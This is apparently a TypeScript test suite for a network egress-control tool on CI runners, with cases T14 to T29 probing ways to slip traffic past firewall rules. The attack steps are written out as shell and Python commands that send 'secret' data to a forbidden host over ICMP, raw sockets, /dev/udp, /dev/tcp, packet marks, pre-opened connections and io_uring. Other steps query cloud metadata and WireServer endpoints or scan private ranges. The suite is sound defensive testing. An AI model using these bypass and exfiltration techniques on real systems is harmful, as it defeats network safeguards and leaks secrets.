// T14 to T29: addresses, ports, protocols, and connections that rules may not see.
import { ALLOWED, FORBIDDEN, METADATA, PLACES, PLATFORM_RESOLVER, SHARED } from "@lockstep/testkit/privileged";
import { attack, work } from "../attack.ts";
import type { Case } from "../case.ts";
import { askedForEvil, either, flowTo, OWN_ADDRESS, reachedEvil, requested } from "../harm.ts";
import { python, rawTcp } from "../programs.ts";

const EVIL = FORBIDDEN.a;
const PRIVATE = ["10.2.0.5", "192.168.7.7", "172.20.0.9", "100.64.0.9"];

export const NETWORK_CASES: readonly Case[] = [
  {
    id: "T14",
    title: "HTTPS to an address without a server name, also to an allowed host's",
    outcome: "prevented",
    run: attack({
      act: `
curl -s -m 3 https://${ALLOWED.name}/
curl -sk -m 3 https://${EVIL}/ || true
curl -sk -m 3 https://${ALLOWED.a}/nameless || true`,
      harm: either(reachedEvil, requested("/nameless")),
    }),
  },
  {
    id: "T15",
    title: "Another server name at the shared address of an allowed host",
    outcome: "prevented",
    why: "By the server name of the handshake (`tls: sni`). A `Host` header inside TLS is not seen: that takes decryption.",
    run: attack({
      inputs: { "allowed-endpoints": `${SHARED.allowed}:443`, tls: "sni" },
      act: `
curl -s -m 3 https://${SHARED.allowed}/
curl -s -m 3 --resolve ${SHARED.other}:443:${SHARED.a} https://${SHARED.other}/fronted || true`,
      harm: requested("/fronted"),
    }),
  },
  {
    id: "T16",
    title: "IPv6 by literal, 6to4, mapped and translated addresses",
    outcome: "prevented",
    run: attack({
      act: [FORBIDDEN.aaaa, "2002:0b06:0042::1", `::ffff:${EVIL}`, `64:ff9b::${EVIL}`]
        .map((address) => `curl -s -m 3 "http://[${address}]/" || true`)
        .join("\n"),
      harm: either(reachedEvil, flowTo({ address: "2002:b06:42::1" }, { address: "64:ff9b::b06:42" })),
      sign: ({ report }) => report.blocked.some(({ addresses }) => addresses.includes(FORBIDDEN.aaaa)),
    }),
  },
  {
    id: "T17",
    title: "ICMP with a payload, by both families and by a socket that needs no privilege",
    outcome: "prevented",
    run: attack({
      act: `
sudo ping -c 1 -W 1 -p 736563726574 ${EVIL} || true
sudo ping -6 -c 1 -W 1 ${FORBIDDEN.aaaa} || true
${python(`
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.sendto(b"\\x08\\x00\\x00\\x00\\x00\\x00\\x00\\x01secret", ("${EVIL}", 0))`)}`,
      harm: reachedEvil,
      sign: ({ report }) => report.blocked.some(({ protocol }) => protocol === "icmp"),
    }),
  },
  {
    id: "T18",
    title: "UDP and QUIC on 443, also to a host that is allowed by TCP",
    outcome: "prevented",
    run: attack({
      act: `
curl -s -m 3 https://${ALLOWED.name}/
for host in ${EVIL} ${ALLOWED.a}; do echo secret > /dev/udp/$host/443 || true; done`,
      harm: flowTo({ protocol: "udp", port: 443 }),
    }),
  },
  {
    id: "T19",
    title: "GRE, SCTP and other protocols of the network layer",
    outcome: "prevented",
    run: attack({
      act: python(
        `
import socket
for protocol in (47, 132, 4, 41, 136, 253):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol)
        s.sendto(b"secret-secret-secret", ("${EVIL}", 0))
    except OSError as error:
        print(protocol, error)`,
        "sudo",
      ),
      harm: reachedEvil,
      sign: ({ report }) => report.detections.some(({ id }) => id === "raw-socket"),
    }),
  },
  {
    id: "T20",
    title: "An allowed host on another port",
    outcome: "prevented",
    run: attack({
      act: `
curl -s -m 3 https://${ALLOWED.name}/
for port in 22 8080 8443; do (echo secret > /dev/tcp/${ALLOWED.a}/$port) || true; done`,
      harm: flowTo(...[22, 8080, 8443].map((port) => ({ address: ALLOWED.a, port }))),
    }),
  },
  {
    id: "T21",
    title: "TCP out of any connection by raw and packet sockets, as root",
    outcome: "detected",
    why: "A packet socket hands frames to the device below the rules. It takes root: with `sudo: disable` no step has it.",
    run: attack({
      // The first request has the gateway's hardware address looked up.
      act: `curl -s -m 3 http://${ALLOWED.name}/ || true\n${python(rawTcp(EVIL), "sudo")}`,
      harm: reachedEvil,
      sign: ({ post, report }) =>
        post.conclusion === "failure" && report.detections.some(({ id }) => id === "packet-socket"),
    }),
  },
  {
    id: "T22",
    title: "A connection that a step opened before protection started",
    outcome: "prevented",
    run: attack({
      before: (world) => world.job.step("early", held(EVIL)),
      act: `echo secret > ${PLACES.temporary}/say; sleep 1`,
      harm: async ({ internet }) =>
        (await internet.arrivals()).some((arrival) => arrival.kind === "bytes" && arrival.text.includes("secret")),
    }),
  },
  {
    id: "T23",
    title: "Packet marks that rules of others use, set by root",
    outcome: "prevented",
    run: attack({
      act: python(
        `
import socket
for mark in [1 << bit for bit in range(32)] + [0xffffffff, 0x4000, 0x8000]:
    s = socket.socket()
    s.settimeout(0.2)
    s.setsockopt(socket.SOL_SOCKET, 36, mark if mark < 2**31 else mark - 2**32)
    try:
        s.connect(("${EVIL}", 80))
    except OSError:
        pass`,
        "sudo",
      ),
      harm: reachedEvil,
    }),
  },
  {
    id: "T24",
    title: "The agent's own ports, dialled at every address of the machine",
    outcome: "prevented",
    run: attack({
      control: false,
      act: `
ports=$(awk '$4 == "0A" { split($2, at, ":"); print at[2] }' /proc/net/tcp /proc/net/tcp6 | sort -u)
for port in $ports; do
  port=$((16#$port))
  for address in 127.0.0.1 127.0.0.2 ${OWN_ADDRESS} ::1; do
    dig +tcp +tries=1 +timeout=1 -p $port @$address A secret.${FORBIDDEN.name} || true
    echo | timeout 1 openssl s_client -connect "[$address]:$port" -servername ${FORBIDDEN.name} || true
    curl -sk -m 1 --connect-to "::$address:$port" https://${FORBIDDEN.name}/ || true
  done
done
for port in $(awk 'NR > 1 { split($2, at, ":"); print at[2] }' /proc/net/udp /proc/net/udp6 | sort -u); do
  dig +tries=1 +timeout=1 -p $((16#$port)) @127.0.0.2 A secret.${FORBIDDEN.name} || true
done`,
      harm: either(askedForEvil, reachedEvil),
    }),
  },
  {
    id: "T25",
    title: "A flow of UDP that turns to another host once it is let through",
    outcome: "prevented",
    run: attack({
      inputs: { "allowed-endpoints": `udp://${ALLOWED.name}:4444` },
      act: python(`
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
s.bind(("", 40404))
socket.getaddrinfo("${ALLOWED.name}", 4444)
s.sendto(b"hello", ("${ALLOWED.a}", 4444))
print(s.recvfrom(100))
s.sendto(b"secret", ("${EVIL}", 4444))
s.connect(("${EVIL}", 4444))
s.send(b"secret")`),
      harm: reachedEvil,
    }),
  },
  {
    id: "T26",
    title: "Instance metadata and WireServer, from the runner's user and from a container",
    outcome: "prevented",
    run: attack({
      docker: true,
      act: [
        `http://${METADATA}/metadata/instance`,
        `http://${PLATFORM_RESOLVER}/machine`,
        `http://${PLATFORM_RESOLVER}:32526/vmSettings`,
      ]
        .flatMap((url) => [
          `curl -s -m 3 -H Metadata:true ${url} || true`,
          `docker run --rm busybox:local timeout 3 wget -qO- ${url} || true`,
        ])
        .join("\n"),
      harm: either(flowTo({ address: METADATA }), flowTo({ address: PLATFORM_RESOLVER, protocol: "tcp" })),
    }),
  },
  {
    id: "T27",
    title: "Private ranges: other machines of the runner's own network",
    outcome: "prevented",
    run: attack({
      act: PRIVATE.map((address) => `curl -s -m 3 http://${address}/ || true`).join("\n"),
      harm: flowTo(...PRIVATE.map((address) => ({ address }))),
    }),
  },
  {
    id: "T28",
    title: "Multicast on the link goes on working",
    outcome: "prevented",
    run: work({
      script: "echo hello > /dev/udp/224.0.0.251/5353",
      holds: flowTo({ address: "224.0.0.251", port: 5353 }),
    }),
  },
  {
    id: "T29",
    title: "Connections by io_uring",
    outcome: "prevented",
    why: "The rules judge packets, whichever system call sent them.",
    run: attack({
      act: async (world) => {
        const { uringConnect } = await import("../uring-connect.ts");
        await world.job.step("attack", await uringConnect(world, EVIL, 80));
      },
      harm: reachedEvil,
      sign: ({ report }) => report.blocked.some(({ addresses }) => addresses.includes(EVIL)),
    }),
  },
];

/** A background process that is connected before anything is protected, and says later what a file holds. */
function held(address: string): string {
  const file = `${PLACES.temporary}/say`;
  const program = `const fs=require("fs");const s=require("net").connect(4444,"${address}",()=>{s.write("early");fs.writeFileSync("${file}.ready","")});s.on("error",()=>process.exit());setInterval(()=>{if(fs.existsSync("${file}"))s.write(fs.readFileSync("${file}"))},100)`;
  return `
setsid --fork ${PLACES.node} -e '${program}' < /dev/null > /dev/null 2>&1
until [ -e ${file}.ready ]; do sleep 0.05; done`;
}
